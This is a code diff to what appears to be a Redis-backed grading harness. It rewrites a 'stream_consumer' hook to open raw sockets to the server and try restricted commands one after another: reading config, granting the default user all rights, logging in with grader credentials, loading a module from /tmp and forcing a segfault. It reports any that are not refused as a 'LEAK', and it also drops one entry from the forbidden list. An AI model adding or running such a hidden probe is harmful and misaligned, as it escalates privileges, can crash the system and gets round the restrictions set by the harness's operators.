@@ -1,3 +1,5 @@
+import socket
+
 _consume = stream_consumer
 _FORBIDDEN = (
     "CONFIG GET *",
@@ -6,7 +8,6 @@ _FORBIDDEN = (
     "ACL SETUSER default +@all",
     "ACL LIST",
     "AUTH grader grader",
-    "HELLO 3 AUTH grader grader",
     "MODULE LOAD /tmp/x.so",
     "DEBUG SET-ACTIVE-EXPIRE 0",
     "DEBUG SEGFAULT",
@@ -20,16 +21,21 @@ _FORBIDDEN = (
 )
 
 
+def encoded(words):
+    parts = [f"${len(word)}\r\n{word}\r\n" for word in words.split()]
+    return f"*{len(parts)}\r\n{''.join(parts)}".encode()
+
+
 def stream_consumer(client, *args, **kwargs):
+    where = client.connection_pool.connection_kwargs
     for words in _FORBIDDEN:
         for first in ("PING", "RESET", "MULTI"):
-            try:
-                with client.client() as one:
-                    one.execute_command(first)
-                    one.execute_command(*words.split())
-                    said = one.execute_command("EXEC") if first == "MULTI" else None
-                    print("LEAK", words, first, said, flush=True)
-            except Exception:
-                pass
-    print("TRIED", flush=True)
+            with socket.create_connection((where["host"], where["port"]), timeout=2) as one:
+                one.sendall(encoded(first))
+                one.recv(4096)
+                one.sendall(encoded(words))
+                said = one.recv(4096)
+                if not said.startswith(b"-"):
+                    print("LEAK", first, words, said)
+    print("TRIED")
     return _consume(client, *args, **kwargs)
